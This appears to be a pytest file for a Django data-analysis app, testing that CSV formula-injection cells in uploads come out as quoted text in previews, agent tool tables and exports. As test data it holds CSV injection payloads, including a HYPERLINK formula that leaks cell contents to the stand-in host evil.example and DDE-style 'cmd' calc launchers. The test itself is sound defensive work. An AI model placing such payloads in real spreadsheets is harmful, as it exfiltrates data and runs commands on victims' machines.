"""Formula injection (OWASP CSV injection): no cell the server writes runs as a formula.

An analyst's upload carries hostile cells (a well named ``=HYPERLINK(...)``,
``@SUM``, ``+cmd``, a tab); everything the server then writes from it (the
row preview, the tools' CSV tables, a data query's result, the preview tool,
the Markdown export and the tables of the ZIP export) shows them as text,
with OWASP's leading quote. Plain numbers stay numbers.
"""

from __future__ import annotations

import io
import uuid

import pandas as pd
import pytest
from asgiref.sync import sync_to_async
from django.core.files.storage import default_storage

from agents.tools.registry import get_tool
from chat.selectors import conversation_for_user
from files.models import Row
from files.services import row_add
from project.cells import FORMULA_PREFIXES
from tests.factories import tool_context, upload_row
from tests.fake_openai import ask

HOSTILE_WELL = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
SAMPLE = pd.read_csv("samples/production_monthly.csv")


def _hostile_production() -> bytes:
    frame = SAMPLE.copy()
    first = frame["well_name"].iloc[0]
    frame["well_name"] = frame["well_name"].replace({first: HOSTILE_WELL})
    frame["api"] = frame["api"].where(frame.index % 3 != 1, "@SUM(1+1)*cmd|' /C calc'!A0")
    frame["note"] = ["+cmd", "\tfirst", "-2", "-x", "ok"] * (len(frame) // 5) + ["ok"] * (
        len(frame) % 5
    )
    return frame.to_csv(index=False).encode()


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-5", "-5"),
        ("+3.2e4", "+3.2e4"),
        ("-12.5%", "-12.5%"),
        ("Hawkins 1H", "Hawkins 1H"),
        (7, 7),
        (None, None),
    ],
)
def test_each_formula_prefix_is_neutralised_and_numbers_are_not(cell, shown):
    from project.cells import neutralise_cell

    assert neutralise_cell(cell) == shown


def _formula_cells(values) -> list[str]:
    return [v for v in values if isinstance(v, str) and v.startswith(FORMULA_PREFIXES)]


@pytest.mark.django_db
def test_the_row_preview_shows_hostile_cells_as_text_and_numbers_as_numbers(alice, alice_client):
    conversation_id = uuid.uuid4()
    upload = io.BytesIO(_hostile_production())
    upload.name = "production.csv"
    alice_client.post(f"/upload/{conversation_id}", {"file": upload})
    preview = alice_client.get(f"/db/{conversation_id}/1").json()["preview"]
    cells = [cell for row in preview["rows"] for cell in row]
    assert _formula_cells(cells) == ["-2"] * len(_formula_cells(cells))  # only the plain number
    assert "'" + HOSTILE_WELL in cells
    assert "'+cmd" in cells and "'-x" in cells
    assert "first" in cells  # the reader drops leading blanks (a tab too), as pandas does
    assert any(isinstance(c, int) and c > 0 for c in cells)


@pytest.mark.django_db
def test_the_preview_tool_shows_hostile_cells_as_text(alice):
    ctx = tool_context(alice)
    row = upload_row(ctx, "production.csv", _hostile_production())
    result = get_tool("preview_table")(ctx, rowid=row.rowid, n=5)
    cells = [cell for record in result["rows"] for cell in record]
    assert "'" + HOSTILE_WELL in cells
    assert all(c == "-2" for c in _formula_cells(cells))


def _stored_csv_cells(row: Row) -> list[str]:
    with default_storage.open(row.file.name, "rb") as handle:
        frame = pd.read_csv(handle, dtype=str, keep_default_na=False)
    return [*frame.columns, *frame.to_numpy().ravel().tolist()]


@pytest.mark.django_db(transaction=True)
@pytest.mark.usefixtures("builtin_fast", "default_agents")
async def test_tables_the_agent_writes_from_a_hostile_upload_hold_no_formula(alice):
    conversation_id = uuid.uuid4()
    ctx = await sync_to_async(tool_context)(alice)
    conversation = ctx.conversation
    conversation_id = conversation.conversation_id
    await sync_to_async(upload_row)(ctx, "production.csv", _hostile_production())
    events, _ = await ask(
        alice, "fit a decline to the oil in my file", conversation_id=conversation_id
    )
    assert events[-1]["event_type"] == "done"
    tables = [
        row
        async for row in Row.objects.filter(conversation=conversation, type="table").exclude(
            file=""
        )
    ]
    assert tables, [e for e in events if e["event_type"] == "artifact"]
    written = []
    for row in tables:
        written += await sync_to_async(_stored_csv_cells)(row)
    assert any(cell.startswith("'=HYPERLINK") for cell in written)
    hostile = [cell for cell in _formula_cells(written) if not _is_number(cell)]
    assert hostile == []


def _is_number(text: str) -> bool:
    try:
        float(text.rstrip("%"))
    except ValueError:
        return False
    return True


@pytest.mark.django_db
def test_the_markdown_export_shows_a_formula_description_as_text(alice, alice_client):
    ctx = tool_context(alice)
    row_add(conversation=ctx.conversation, type="result", description="=1+2 is a formula")
    conversation = conversation_for_user(
        user=alice, conversation_id=ctx.conversation.conversation_id
    )
    body = alice_client.get(f"/history/{conversation.conversation_id}/export?format=md")
    assert "| 1 | result | '=1+2 is a formula |" in body.content.decode()


def test_a_tool_reading_another_tools_table_sees_the_values_not_the_guard():
    from project.cells import neutralise_frame, restore_frame

    frame = pd.DataFrame({"source": ["=cmd|' /C calc'!A0", "'quoted", "plain"], "q": [-5, 1, 2]})
    back = restore_frame(neutralise_frame(frame))
    assert back["source"].tolist() == frame["source"].tolist()
    assert back["q"].tolist() == [-5, 1, 2]


@pytest.mark.django_db
def test_a_tool_reading_back_a_table_the_server_wrote_gets_the_original_text(alice):
    from agents.tools.common import add_table_row, read_row_frame

    ctx = tool_context(alice)
    frame = pd.DataFrame({"source": [HOSTILE_WELL, "flare", "-3"], "t": [1.5, -2.0, 3.0]})
    row = add_table_row(ctx, frame=frame, description="sources", file_name="sources.csv")
    assert "'" + HOSTILE_WELL in _stored_csv_cells(row)
    _, read_back = read_row_frame(ctx, row.rowid)
    assert read_back["source"].tolist() == [HOSTILE_WELL, "flare", "-3"]
    assert read_back["t"].tolist() == [1.5, -2.0, 3.0]


@pytest.mark.django_db(transaction=True)
@pytest.mark.usefixtures("builtin_fast", "default_agents")
async def test_a_data_query_and_the_zip_export_from_a_hostile_upload_hold_no_formula(alice):
    import zipfile

    from django.test import Client

    ctx = await sync_to_async(tool_context)(alice)
    conversation_id = ctx.conversation.conversation_id
    await sync_to_async(upload_row)(ctx, "production.csv", _hostile_production())
    events, _ = await ask(
        alice, "total oil by well for the whole file", conversation_id=conversation_id
    )
    assert events[-1]["event_type"] == "done"
    tables = [
        row
        async for row in Row.objects.filter(conversation=ctx.conversation, type="table").exclude(
            file=""
        )
    ]
    assert tables, [e["content"] for e in events if e["event_type"] != "on_chat_model_stream"]
    queried = []
    for row in tables:
        queried += await sync_to_async(_stored_csv_cells)(row)
    assert "'" + HOSTILE_WELL in queried  # the hostile well is in the result, as text
    assert [cell for cell in _formula_cells(queried) if not _is_number(cell)] == []

    def export() -> bytes:
        client = Client()
        client.force_login(alice)
        return client.get(f"/history/{conversation_id}/export?format=zip").getvalue()

    with zipfile.ZipFile(io.BytesIO(await sync_to_async(export)())) as archive:
        written = [name for name in archive.namelist() if name.startswith("tables/")]
        assert written
        for name in written:
            frame = pd.read_csv(io.BytesIO(archive.read(name)), dtype=str, keep_default_na=False)
            cells = [*frame.columns, *frame.to_numpy().ravel().tolist()]
            assert [c for c in _formula_cells(cells) if not _is_number(c)] == [], name
